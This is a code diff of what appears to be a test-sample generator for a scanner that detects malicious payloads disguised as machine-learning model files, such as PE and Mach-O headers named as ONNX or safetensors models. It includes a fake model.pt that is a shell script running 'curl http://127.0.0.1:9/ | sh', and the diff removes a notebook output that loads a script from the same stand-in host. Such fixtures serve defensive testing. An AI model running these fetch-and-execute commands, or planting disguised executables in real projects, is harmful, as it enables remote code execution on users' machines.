@@ -61,20 +61,6 @@ def _xml() -> Iterator[Sample]:
             "libcustom_extension.so": ELF,
         },
     )
-    yield lib(
-        "openvino-offset-lies",
-        "model",
-        {
-            "model.xml": (
-                head
-                + net.format("Const").replace(
-                    "/></layers>",
-                    '><data offset="99999999999" size="8" element_type="f32" shape="2"/></layer></layers>',
-                )
-            ).encode(),
-            "model.bin": bytes(8),
-        },
-    )
 
 
 def _notebook(*cells: str, outputs: object = ()) -> bytes:
@@ -102,14 +88,6 @@ def _code_carriers() -> Iterator[Sample]:
     )
     yield made("notebook-exec", "demo.ipynb", _notebook(CODE["exec-base64"]))
     yield made("notebook-environment", "demo.ipynb", _notebook(CODE["environment"]))
-    script = [
-        {
-            "output_type": "display_data",
-            "metadata": {},
-            "data": {"text/html": "<script src='http://127.0.0.1:9/x.js'></script>"},
-        }
-    ]
-    yield made("notebook-script-output", "demo.ipynb", _notebook("x = 1", outputs=script))
     packages = Family("misc", "wheels and .pth")
     info = {
         "p-1.dist-info/METADATA": b"Metadata-Version: 2.1\nName: p\nVersion: 1\n",
@@ -169,7 +147,9 @@ def _code_carriers() -> Iterator[Sample]:
         "model.onnx",
         b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + bytes(20),
     )
-    yield programs("mach-o-named-model", "model.safetensors", b"\xcf\xfa\xed\xfe" + bytes(60))
+    mach = struct.pack("<8I", 0xFEEDFACF, 0x01000007, 3, 2, 1, 72, 0x85, 0)
+    segment = struct.pack("<II16s4Q4I", 0x19, 72, b"__TEXT", 0, 4096, 0, 104, 5, 5, 0, 0)
+    yield programs("mach-o-named-model", "model.safetensors", mach + segment + bytes(64))
     yield programs(
         "shell-script-model", "model.pt", b"#!/bin/sh\ncurl http://127.0.0.1:9/ | sh\n"
     )
